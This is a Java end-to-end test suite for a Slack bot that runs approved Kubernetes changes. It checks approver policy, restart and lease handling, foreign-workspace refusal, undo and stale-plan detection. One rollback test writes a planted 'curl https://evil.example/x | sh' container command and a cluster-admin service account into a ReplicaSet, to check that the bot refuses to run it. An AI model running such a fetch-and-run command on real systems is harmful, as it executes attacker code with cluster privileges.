package dev.pitcrew.bot;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.pitcrew.approvals.ApprovalPolicy;
import dev.pitcrew.approvals.ApprovalRequest;
import dev.pitcrew.approvals.ApprovalState;
import dev.pitcrew.approvals.ApprovalStore;
import dev.pitcrew.approvals.Approvals;
import dev.pitcrew.approvals.Decision;
import dev.pitcrew.approvals.Executing;
import dev.pitcrew.approvals.Execution;
import dev.pitcrew.bot.testing.FakeSlack;
import dev.pitcrew.bot.testing.SignedSlack;
import dev.pitcrew.remediations.Deployments;
import dev.pitcrew.remediations.EnableDryRunMockClient;
import io.fabric8.kubernetes.api.model.ConfigMap;
import io.fabric8.kubernetes.client.KubernetesClient;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 4 end to end over real HTTP, with the durable approval store in Fabric8's CRUD mock server
 * (which checks resourceVersion like an API server, and enforces no RBAC), a policy file, and Slack
 * user groups answered by the fake Slack Web API.
 */
@EnableDryRunMockClient
class ApprovalTrustEndToEndTest {
  private static final String SECRET = RunningPitcrew.SECRET;
  private static final String CHANNEL = "COPS";
  private static final Pattern CORRELATION_ID = Pattern.compile("pc-[0-9a-f]{12}");
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final Duration PATIENCE = Duration.ofSeconds(20);
  private static final String POLICY =
      """
      ask:
        channels: [COPS]
        teams: [TPARTNER]
      approvals:
        approvers: [ULEAD, UREQ]
        namespaces:
          payments: {groups: [SPAYONCALL], minApprovals: 2}
      """;

  static KubernetesClient client;
  static io.fabric8.kubernetes.client.server.mock.KubernetesMockServer server;

  /** The key every replica signs stored requests with, as the chart's Secret gives it. */
  private static final String STORE_KEY = RunningPitcrew.STORE_KEY;

  @RegisterExtension final RunningPitcrew app = new RunningPitcrew();

  @BeforeEach
  void start(@TempDir Path dir) throws Exception {
    client.apps().deployments().inAnyNamespace().delete();
    client.configMaps().inNamespace("pitcrew").delete();
    client.resource(Deployments.ready("shop", "checkout", 3)).create();
    client.resource(Deployments.ready("payments", "ledger", 2)).create();
    app.slack.group("SPAYONCALL", "UPAY1", "UPAY2", "UREQ");
    Path policy = dir.resolve("policy.yaml");
    Files.writeString(policy, POLICY);
    app.withoutModel().sharedStore(); // explicit commands only, on the durable, signed store
    app.env().put("PITCREW_CONFIG", policy.toString());
    app.start(client, b -> b.sweepEvery(Duration.ofMillis(50)));
  }

  @Test
  void paymentsNeedsTwoMembersOfItsOnCallGroup() throws Exception {
    String correlationId = ask("run scale_deployment namespace=payments name=ledger replicas=4");
    FakeSlack.Call card = app.awaitCard(correlationId);
    String id = FakeSlack.button(card, "approval_approve");
    assertThat(card.param("blocks"))
        .contains("<!subteam^SPAYONCALL>")
        .contains("2 distinct approvals needed");

    app.signed.click(
        "ULEAD", CHANNEL, "approval_approve", id, card.ts()); // default approver: not here
    app.signed.click("UREQ", CHANNEL, "approval_approve", id, card.ts()); // in the group, but asked
    app.signed.click("UPAY1", CHANNEL, "approval_approve", id, card.ts());
    await()
        .atMost(PATIENCE)
        .until(() -> app.slack.ephemeralTo("UPAY1").contains("1 more from someone else"));
    assertThat(app.slack.ephemeralTo("ULEAD"))
        .contains("not an approver for runbook scale_deployment in namespace payments");
    assertThat(app.slack.ephemeralTo("UREQ")).contains("someone else has to approve it");
    assertThat(replicas("payments", "ledger")).isEqualTo(2);

    app.signed.click("UPAY2", CHANNEL, "approval_approve", id, card.ts());
    await()
        .atMost(PATIENCE)
        .until(() -> app.slack.auditLines("CAUDIT", correlationId, "*executed*").size() == 1);
    assertThat(replicas("payments", "ledger")).isEqualTo(4);
    await()
        .atMost(PATIENCE)
        .until(
            () -> app.slack.auditLines("CAUDIT", correlationId, "*approval recorded*").size() == 1);
  }

  @Test
  void pendingRequestsSurviveARestartAndCanBeApprovedAfterwards() throws Exception {
    String correlationId = ask("run scale_deployment namespace=shop name=checkout replicas=5");
    FakeSlack.Call card = app.awaitCard(correlationId);
    String id = FakeSlack.button(card, "approval_approve");
    assertThat(client.configMaps().inNamespace("pitcrew").withName(id).get()).isNotNull();

    app.stop();
    app.startAgain(); // a new process: nothing in memory

    app.signed.click("ULEAD", CHANNEL, "approval_approve", id, card.ts());
    await().atMost(PATIENCE).until(() -> replicas("shop", "checkout") == 5);
    // The outcome is recorded after the write lands: wait for it, do not race it.
    await().atMost(PATIENCE).until(() -> stored(id) == ApprovalState.SUCCEEDED);
  }

  @Test
  void aRequestExecutingWhenTheBotDiedBecomesUnknownAndIsNotRun() throws Exception {
    String correlationId = ask("run scale_deployment namespace=shop name=checkout replicas=5");
    FakeSlack.Call card = app.awaitCard(correlationId);
    String id = FakeSlack.button(card, "approval_approve");
    app.stop();
    // The process died after moving the request to EXECUTING and before the write.
    ConfigMap cm = client.configMaps().inNamespace("pitcrew").withName(id).get();
    ObjectNode request = (ObjectNode) JSON.readTree(cm.getData().get("request.json"));
    request
        .put("state", "EXECUTING")
        .put("decidedBy", "ULEAD")
        .put("version", request.get("version").asLong() + 1);
    request.putArray("approvals").add("ULEAD");
    cm.getData().put("request.json", request.toString());
    cm.getMetadata().getLabels().put("pitcrew.dev/approval-state", "EXECUTING");
    // As the dead replica wrote it: signed with the store key.
    cm.getMetadata()
        .getAnnotations()
        .put(
            "pitcrew.dev/signature",
            dev.pitcrew.approvals.StoreSeal.of(STORE_KEY).sign(request.toString()));
    client.resource(cm).update();

    app.startAgain();

    await()
        .atMost(PATIENCE)
        .until(() -> !app.slack.auditLines("CAUDIT", correlationId, "*unknown*").isEmpty());
    assertThat(last(app.slack.calls("chat.update")).param("blocks"))
        .contains("Outcome unknown")
        .contains("it was not run again")
        .doesNotContain("approval_approve");
    await()
        .atMost(PATIENCE)
        .until(
            () ->
                app.slack.thread(CHANNEL, correlationId).stream()
                    .anyMatch(
                        c ->
                            c.param("text").contains("It was not run again")
                                && c.param("text")
                                    .contains("Now: deployment shop/checkout: 3 desired")));
    app.signed.click("ULEAD", CHANNEL, "approval_approve", id, card.ts());
    await()
        .atMost(PATIENCE)
        .until(() -> app.slack.ephemeralTo("ULEAD").contains("already unknown"));
    assertThat(replicas("shop", "checkout")).isEqualTo(3);
  }

  /**
   * Another replica that approved {@code id} and is running it now, its change held open. It is the
   * approvals state machine of a second replica over the same ConfigMaps, not a whole second
   * Pitcrew: a real change on the mock finishes in milliseconds, and holding it open is what these
   * tests need. Two whole Pitcrew instances share one store in SocketModeEndToEndTest.
   */
  private final class OtherReplica implements AutoCloseable {
    final Approvals approvals =
        new Approvals(
            ApprovalStore.kubernetes(
                client,
                "pitcrew",
                app.clock,
                Optional.of(dev.pitcrew.approvals.StoreSeal.of(STORE_KEY)),
                problem -> {}),
            ApprovalPolicy.of(Set.of("ULEAD")),
            app.clock,
            "replica-other",
            Duration.ofSeconds(30));
    final CountDownLatch running = new CountDownLatch(1);
    final CountDownLatch release = new CountDownLatch(1);
    final ExecutorService thread = Executors.newSingleThreadExecutor();
    final Future<Optional<ApprovalRequest>> done;

    OtherReplica(String id) throws InterruptedException {
      assertThat(approvals.approve(id, "ULEAD")).isInstanceOf(Decision.Approved.class);
      done =
          thread.submit(
              () ->
                  Executing.run(
                      approvals,
                      approvals.find(id).orElseThrow(),
                      r -> {
                        running.countDown();
                        try {
                          release.await();
                        } catch (InterruptedException e) {
                          Thread.currentThread().interrupt();
                        }
                        return new Execution(true, "scaled by the other replica");
                      }));
      assertThat(running.await(PATIENCE.toSeconds(), TimeUnit.SECONDS)).isTrue();
    }

    ApprovalRequest finish() throws Exception {
      release.countDown();
      return done.get(PATIENCE.toSeconds(), TimeUnit.SECONDS).orElseThrow();
    }

    @Override
    public void close() {
      release.countDown();
      thread.shutdownNow();
    }
  }

  private ApprovalState stored(String id) {
    return ApprovalState.valueOf(
        client
            .configMaps()
            .inNamespace("pitcrew")
            .withName(id)
            .get()
            .getMetadata()
            .getLabels()
            .get("pitcrew.dev/approval-state"));
  }

  /** Regression: a starting replica marked a live execution UNKNOWN, then it became SUCCEEDED. */
  @Test
  void aReplicaThatStartsWhileAnotherRunsAChangeLeavesItAlone() throws Exception {
    // The audit log has every event as it happens; the channel gets them up to a second later.
    ch.qos.logback.core.read.ListAppender<ch.qos.logback.classic.spi.ILoggingEvent> auditLog =
        new ch.qos.logback.core.read.ListAppender<>();
    auditLog.start();
    ch.qos.logback.classic.Logger audit =
        (ch.qos.logback.classic.Logger) org.slf4j.LoggerFactory.getLogger("pitcrew.audit");
    audit.addAppender(auditLog);
    String correlationId = ask("run scale_deployment namespace=shop name=checkout replicas=5");
    String id = FakeSlack.button(app.awaitCard(correlationId), "approval_approve");
    try (OtherReplica other = new OtherReplica(id)) {
      app.stop();
      app.startAgain(); // sweeps at start-up and every 50 ms

      await()
          .during(Duration.ofMillis(600))
          .atMost(PATIENCE)
          .until(() -> stored(id) == ApprovalState.EXECUTING);
      app.clock.advance(Duration.ofSeconds(20)); // still inside the other replica's lease
      await()
          .during(Duration.ofMillis(300))
          .atMost(PATIENCE)
          .until(() -> stored(id) == ApprovalState.EXECUTING);
      assertThat(auditLog.list).noneMatch(e -> e.getFormattedMessage().startsWith("unknown:"));

      assertThat(other.finish().state()).isEqualTo(ApprovalState.SUCCEEDED);
      assertThat(stored(id)).isEqualTo(ApprovalState.SUCCEEDED);
    } finally {
      audit.detachAppender(auditLog);
    }
  }

  @Test
  void aChangeWhoseReplicaStoppedRenewingIsUnknownAndItsLateResultDoesNotOverwriteThat()
      throws Exception {
    // The audit log has every event as it happens; the channel gets them up to a second later.
    ch.qos.logback.core.read.ListAppender<ch.qos.logback.classic.spi.ILoggingEvent> auditLog =
        new ch.qos.logback.core.read.ListAppender<>();
    auditLog.start();
    ch.qos.logback.classic.Logger audit =
        (ch.qos.logback.classic.Logger) org.slf4j.LoggerFactory.getLogger("pitcrew.audit");
    audit.addAppender(auditLog);
    String correlationId = ask("run scale_deployment namespace=shop name=checkout replicas=5");
    String id = FakeSlack.button(app.awaitCard(correlationId), "approval_approve");
    try (OtherReplica other = new OtherReplica(id)) {
      app.clock.advance(Duration.ofSeconds(31)); // the other replica renews nothing: it is wedged

      await()
          .atMost(PATIENCE)
          .until(() -> !app.slack.auditLines("CAUDIT", correlationId, "*unknown*").isEmpty());
      await()
          .atMost(PATIENCE)
          .until(
              () ->
                  app.slack.thread(CHANNEL, correlationId).stream()
                      .anyMatch(c -> c.param("text").contains("stopped before it recorded")));

      assertThat(other.finish().state()).isEqualTo(ApprovalState.UNKNOWN);
      assertThat(stored(id)).isEqualTo(ApprovalState.UNKNOWN);
    }
  }

  @Test
  void payloadsFromAnotherWorkspaceOrAppAreRefusedUnlessThePolicyListsTheWorkspace()
      throws Exception {
    String ownAsk = ask("run scale_deployment namespace=shop name=checkout replicas=5");
    FakeSlack.Call card = app.awaitCard(ownAsk);
    String id = FakeSlack.button(card, "approval_approve");
    int postsBefore = app.slack.calls("chat.postMessage").size();

    // A Slack Connect channel shared with another company: its people are not Pitcrew's users.
    HttpResponse<String> command =
        app.signed.send(
            SignedSlack.slashCommandBody(
                    "UOTHER", CHANNEL, "run deployment_status namespace=shop name=checkout")
                .replace("team_id=T1", "team_id=TOTHER"));
    assertThat(command.body()).contains("only from its own workspace");
    ObjectNode click =
        SignedSlack.blockActionPayload("ULEAD", CHANNEL, "approval_approve", id, card.ts());
    ((ObjectNode) click.get("user")).put("team_id", "TOTHER");
    app.signed.send(SignedSlack.interactiveBody(click));
    ObjectNode otherApp =
        SignedSlack.blockActionPayload("ULEAD", CHANNEL, "approval_approve", id, card.ts());
    otherApp.put("api_app_id", "A2");
    app.signed.send(SignedSlack.interactiveBody(otherApp));
    ObjectNode mention =
        SignedSlack.mentionPayload("Ev9", "UOTHER", CHANNEL, "<@UBOT> help", "1.5", null);
    ((ObjectNode) mention.get("event")).put("user_team", "TOTHER");
    app.signed.sendJson(mention.toString());

    await()
        .atMost(PATIENCE)
        .until(
            () ->
                metrics().contains("pitcrew_slack_foreign_payloads_total{kind=\"click\"} 2.0")
                    && metrics().contains("kind=\"mention\"")
                    && metrics().contains("kind=\"command\""));
    assertThat(app.slack.calls("chat.postMessage")).hasSize(postsBefore);
    assertThat(app.slack.calls("chat.postEphemeral")).isEmpty();
    assertThat(replicas("shop", "checkout")).isEqualTo(3);

    // A partner workspace the policy lists is welcome.
    HttpResponse<String> partner =
        app.signed.send(
            SignedSlack.slashCommandBody(
                    "UPARTNER", CHANNEL, "run deployment_status namespace=shop name=checkout")
                .replace("team_id=T1", "team_id=TPARTNER"));
    assertThat(partner.body()).contains("Working on it");
  }

  @Test
  void theSameUndoClickDeliveredTwiceOpensOneUndoRequest() throws Exception {
    Ran ran = scaledToFiveAndUndoable();
    String correlationId = ran.correlationId();
    FakeSlack.Call card = ran.card();
    String original = ran.original();

    // Slack re-delivers the click (or two replicas each get it): both arrive at once.
    ExecutorService twice = Executors.newFixedThreadPool(2);
    try {
      List<Future<HttpResponse<String>>> clicks = new java.util.ArrayList<>();
      for (int i = 0; i < 2; i++) {
        clicks.add(
            twice.submit(
                () -> app.signed.click("UREQ", CHANNEL, "approval_undo", original, card.ts())));
      }
      for (Future<HttpResponse<String>> click : clicks) {
        assertThat(click.get().statusCode()).isEqualTo(200);
      }
    } finally {
      twice.shutdownNow();
    }

    await()
        .atMost(PATIENCE)
        .until(() -> app.slack.ephemeralTo("UREQ").contains("Not proposed again"));
    await()
        .atMost(PATIENCE)
        .until(
            () ->
                app.slack.auditLines("CAUDIT", correlationId, "*approval requested*").size() == 2);
    assertThat(app.cards(correlationId)).hasSize(2); // the original and one undo
  }

  @Test
  void expiredCardsLoseTheirButtonsWithoutAClick() throws Exception {
    String correlationId = ask("run scale_deployment namespace=shop name=checkout replicas=5");
    app.awaitCard(correlationId);

    app.clock.advance(Duration.ofMinutes(16));

    await()
        .atMost(PATIENCE)
        .until(() -> !app.slack.auditLines("CAUDIT", correlationId, "*expired*").isEmpty());
    assertThat(last(app.slack.calls("chat.update")).param("blocks"))
        .contains("Expired")
        .doesNotContain("approval_approve");
    assertThat(replicas("shop", "checkout")).isEqualTo(3);
  }

  @Test
  void anOldRevisionEditedAfterTheCardWasPostedIsNotRolledBackTo() throws Exception {
    dev.pitcrew.remediations.Cluster cluster = new dev.pitcrew.remediations.Cluster(client);
    cluster.reset("shop");
    cluster.checkoutAfterBadRollout("shop");
    String correlationId = ask("run rollback_deployment namespace=shop name=checkout");
    FakeSlack.Call card = app.awaitCard(correlationId);
    assertThat(card.param("blocks")).contains("pod template: sha256:");
    // Someone who may edit ReplicaSets plants a command in the revision the card rolls back to.
    client
        .apps()
        .replicaSets()
        .inNamespace("shop")
        .withName("checkout-hash2")
        .edit(
            rs -> {
              rs.getSpec()
                  .getTemplate()
                  .getSpec()
                  .getContainers()
                  .get(0)
                  .setCommand(List.of("sh", "-c", "curl https://evil.example/x | sh"));
              rs.getSpec().getTemplate().getSpec().setServiceAccountName("cluster-admin-sa");
              return rs;
            });

    approveAs("ULEAD", card);

    await()
        .atMost(PATIENCE)
        .until(() -> app.slack.ephemeralTo("ULEAD").contains("Not run: the target changed"));
    assertThat(app.slack.ephemeralTo("ULEAD"))
        .contains("command of container checkout: (none) -&gt; [sh, -c, curl")
        .contains("service account: (none) -&gt; cluster-admin-sa");
    var running =
        client.apps().deployments().inNamespace("shop").withName("checkout").get().getSpec();
    assertThat(running.getTemplate().getSpec().getContainers().get(0).getImage()).endsWith(":v3");
    assertThat(running.getTemplate().getSpec().getContainers().get(0).getCommand()).isEmpty();
    assertThat(running.getTemplate().getSpec().getServiceAccountName()).isNull();
  }

  @Test
  void aWriteTheServerRefusesSaysFailedOnce() throws Exception {
    String correlationId = ask("run scale_deployment namespace=shop name=checkout replicas=5");
    FakeSlack.Call card = app.awaitCard(correlationId);
    // An admission webhook that lets the dry run through but refuses the write itself.
    server
        .expect()
        .patch()
        .withPath("/apis/apps/v1/namespaces/shop/deployments/checkout")
        .andReturn(
            403,
            new io.fabric8.kubernetes.api.model.StatusBuilder()
                .withCode(403)
                .withReason("Forbidden")
                .withMessage("denied by policy")
                .build())
        .once();

    approveAs("ULEAD", card);

    await()
        .atMost(PATIENCE)
        .until(
            () ->
                app.slack.thread(CHANNEL, correlationId).stream()
                    .anyMatch(c -> c.param("text").startsWith("Failed: ")));
    assertThat(app.slack.thread(CHANNEL, correlationId))
        .filteredOn(c -> c.param("text").startsWith("Failed: "))
        .allSatisfy(c -> assertThat(c.param("text")).doesNotContain("Failed: Failed"));
    assertThat(replicas("shop", "checkout")).isEqualTo(3);
  }

  @Test
  void aStalePlanIsRefusedAndNothingRuns() throws Exception {
    String correlationId = ask("run scale_deployment namespace=shop name=checkout replicas=5");
    FakeSlack.Call card = app.awaitCard(correlationId);
    // Someone scales by hand after the card was posted: the card's 3 -> 5 no longer holds.
    client.apps().deployments().inNamespace("shop").withName("checkout").scale(4);

    approveAs("ULEAD", card);

    await()
        .atMost(PATIENCE)
        .until(() -> app.slack.ephemeralTo("ULEAD").contains("Not run: the target changed"));
    assertThat(app.slack.ephemeralTo("ULEAD"))
        .contains("[spec.replicas: 3 -&gt; 5]") // escaped for Slack, shown as ->
        .contains("[spec.replicas: 4 -&gt; 5]");
    await()
        .atMost(PATIENCE)
        .until(() -> app.slack.auditLines("CAUDIT", correlationId, "*stale*").size() == 1);
    assertThat(replicas("shop", "checkout")).isEqualTo(4);
    assertThat(last(app.slack.calls("chat.update")).param("blocks")).contains("Not run");
  }

  @Test
  void undoProposesTheInverseUnderTheSamePolicy() throws Exception {
    Ran ran = scaledToFiveAndUndoable();
    String correlationId = ran.correlationId();
    FakeSlack.Call card = ran.card();
    String original = ran.original();
    await().atMost(PATIENCE).until(() -> replicas("shop", "checkout") == 5);

    app.signed.click("ULEAD", CHANNEL, "approval_undo", original, card.ts());

    await().atMost(PATIENCE).until(() -> app.cards(correlationId).size() == 2);
    FakeSlack.Call undo = app.cards(correlationId).get(1);
    assertThat(undo.param("blocks"))
        .contains("Undo: Scale deployment shop/checkout from 5 to 3 replicas");
    // Regression (failed one run in five): the card is posted before its audit line is recorded,
    // so the audit line is awaited, never read as soon as the card appears.
    await()
        .atMost(PATIENCE)
        .until(
            () ->
                app.slack.auditLines("CAUDIT", correlationId, "*approval requested*").size() == 2);
    assertThat(app.slack.auditLines("CAUDIT", correlationId, "*approval requested*").get(1))
        .contains("undoing " + original);
    // ULEAD asked for the undo, so someone else approves it.
    approveAs("ULEAD", undo);
    await()
        .atMost(PATIENCE)
        .until(() -> app.slack.ephemeralTo("ULEAD").contains("someone else has to approve it"));
    approveAs("UREQ", undo);
    await().atMost(PATIENCE).until(() -> replicas("shop", "checkout") == 3);
  }

  @Test
  void someoneThePolicyDoesNotLetAskCannotUndoAnotherPersonsChange() throws Exception {
    Ran ran = scaledToFiveAndUndoable();
    String correlationId = ran.correlationId();
    FakeSlack.Call card = ran.card();
    String original = ran.original();
    // The policy now lets only the two of them ask; the change stays on record in the store.
    app.stop();
    Files.writeString(
        Path.of(app.env().get("PITCREW_CONFIG")),
        POLICY.replace("channels: [COPS]", "channels: [COPS]\n  users: [UREQ, ULEAD]"));
    app.startAgain();

    app.signed.click("UOUTSIDER", CHANNEL, "approval_undo", original, card.ts());

    await()
        .atMost(PATIENCE)
        .until(
            () ->
                app.slack
                    .ephemeralTo("UOUTSIDER")
                    .contains("Sorry: you are not on the list of people who may ask"));
    await()
        .atMost(PATIENCE)
        .until(() -> !app.slack.auditLines("CAUDIT", correlationId, "*ask refused*").isEmpty());
    assertThat(app.cards(correlationId)).hasSize(1);
    assertThat(replicas("shop", "checkout")).isEqualTo(5);
  }

  @Test
  void askingOutsideTheAllowedChannelsIsRefusedAndAudited() throws Exception {
    HttpResponse<String> ack =
        app.signed.slashCommand(
            "UREQ", "CRANDOM", "run deployment_status namespace=shop name=checkout");

    assertThat(ack.statusCode()).isEqualTo(200);
    assertThat(ack.body()).contains("Pitcrew does not take requests in this channel");
    Matcher id = CORRELATION_ID.matcher(ack.body());
    assertThat(id.find()).isTrue();
    await()
        .atMost(PATIENCE)
        .until(() -> !app.slack.auditLines("CAUDIT", id.group(), "*ask refused*").isEmpty());
    await()
        .atMost(PATIENCE)
        .until(
            () ->
                app.slack.calls("chat.postMessage").stream()
                    .anyMatch(
                        c ->
                            c.param("channel").equals("CAUDIT")
                                && c.param("text").contains("*ask refused*")));
    assertThat(
            app.slack.calls("chat.postMessage").stream()
                .filter(c -> c.param("channel").equals("CRANDOM")))
        .isEmpty();
  }

  // --- helpers ---

  /** {@code user} clicks Approve on {@code card}. */
  private void approveAs(String user, FakeSlack.Call card) throws Exception {
    app.signed.click(
        user, CHANNEL, "approval_approve", FakeSlack.button(card, "approval_approve"), card.ts());
  }

  /** A change that ran, and the ID its Undo button carries. */
  private record Ran(String correlationId, FakeSlack.Call card, String original) {}

  /** checkout scaled 3 -> 5 by UREQ, approved by ULEAD, its card showing Undo. */
  private Ran scaledToFiveAndUndoable() throws Exception {
    String correlationId = ask("run scale_deployment namespace=shop name=checkout replicas=5");
    FakeSlack.Call card = app.awaitCard(correlationId);
    approveAs("ULEAD", card);
    await()
        .atMost(PATIENCE)
        .until(
            () -> last(app.slack.calls("chat.update")).param("blocks").contains("approval_undo"));
    return new Ran(
        correlationId,
        card,
        FakeSlack.button(last(app.slack.calls("chat.update")), "approval_undo"));
  }

  private String metrics() throws Exception {
    return java.net.http.HttpClient.newHttpClient()
        .send(
            java.net.http.HttpRequest.newBuilder(
                    java.net.URI.create("http://127.0.0.1:" + app.pitcrew.port() + "/metrics"))
                .build(),
            HttpResponse.BodyHandlers.ofString())
        .body();
  }

  private String ask(String text) throws Exception {
    return app.ask("UREQ", CHANNEL, text);
  }

  private int replicas(String namespace, String name) {
    return client
        .apps()
        .deployments()
        .inNamespace(namespace)
        .withName(name)
        .get()
        .getSpec()
        .getReplicas();
  }

  private static <T> T last(List<T> list) {
    assertThat(list).isNotEmpty();
    return list.get(list.size() - 1);
  }
}
